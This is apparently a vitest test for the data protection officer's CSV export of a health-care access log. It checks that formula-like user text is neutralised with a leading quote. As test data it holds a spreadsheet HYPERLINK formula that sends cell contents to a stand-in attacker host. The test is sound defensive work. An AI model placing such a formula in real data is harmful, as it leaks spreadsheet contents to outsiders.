import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clientId, staffUserId } from '../../src/features/identity/demo.ts';
import { clientRecord, withAccess } from '../../src/platform/access/index.ts';
import type { StaffActor } from '../../src/platform/auth/actor.ts';
import { stableUuid } from '../../src/platform/ids.ts';
import { startTestApp, type TestApp } from '../app.ts';

const PS_REGION = stableUuid('region', 'pohjois-savo');
const PS_ORG = stableUuid('organization', 'pohjois-savo/pohjois-savon-hyvinvointialue');

/** Finding 5 of issue 10: user text that looks like a formula leaves the DPO's export as text. */
describe("the DPO's CSV export", () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp('pglite', { seedDemo: true });
  });
  afterAll(async () => t?.close());

  it('writes a reason that begins with a formula as text, prefixed with a quote', async () => {
    const receiver: StaffActor = {
      kind: 'staff',
      userId: staffUserId('vastaanottaja'),
      regionId: PS_REGION,
      organizationId: PS_ORG,
      name: 'Ville Vastaanottaja',
      roles: [{ organizationId: PS_ORG, role: 'receiving_worker' }],
      sessionId: 's',
    };
    const reason = '=HYPERLINK("http://attacker.example/?x="&A1,"Avaa")';
    await withAccess(
      t.database.db,
      receiver,
      'read',
      clientRecord(clientId('asiakas'), PS_ORG, { breakGlass: true }),
      async () => 1,
      { reason },
    );
    const session = await t.app.inject({
      method: 'POST',
      url: '/api/dev/session',
      payload: { username: 'tietosuoja' },
    });
    const cookie = String(session.headers['set-cookie']).split(';')[0] as string;
    const res = await t.app.inject({ url: '/fi/staff/access-log.csv', headers: { cookie } });
    expect(res.statusCode).toBe(200);
    const rows = parse(res.body, { bom: true }) as string[][];
    const header = rows[0] ?? [];
    const row = rows.find((r) => r[header.indexOf('resource_type')] === 'client_record');
    expect(row?.[header.indexOf('reason')]).toBe(`'${reason}`);
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
